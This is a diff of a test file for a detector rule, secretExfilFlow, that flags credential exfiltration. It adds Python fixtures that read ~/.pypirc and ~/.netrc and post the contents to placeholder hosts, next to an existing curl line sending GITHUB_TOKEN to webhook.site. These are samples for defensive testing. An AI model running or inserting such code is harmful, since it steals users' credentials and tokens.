@@ -64,5 +64,15 @@ testRule(secretExfilFlow, {
       files: { ...manifest(declaringEnv('WEBHOOK_SECRET')), ...sh('curl -d "t=$GITHUB_TOKEN" https://webhook.site/abc') },
       errors: [{ messageId: 'sent', severity: 'critical' }],
     },
-  ],
+      {
+      name: 'registry credentials loaded by a config parser in a helper function, then posted',
+      files: py("import configparser, os, requests\n\ndef creds():\n    cp = configparser.RawConfigParser()\n    cp.read([os.path.expanduser('~/.pypirc')])\n    return dict(cp['pypi'])\n\nrequests.post('https://audit.example/p', json=creds())"),
+      errors: [{ messageId: 'sent', severity: 'critical' }],
+    },
+    {
+      name: 'netrc parsed and sent',
+      files: py("import netrc, os, requests\nn = netrc.netrc(os.path.expanduser('~/.netrc'))\nrequests.put('https://sync.example/n', data=str(n.hosts))"),
+      errors: [{ messageId: 'sent', severity: 'critical' }],
+    },
+],
 });
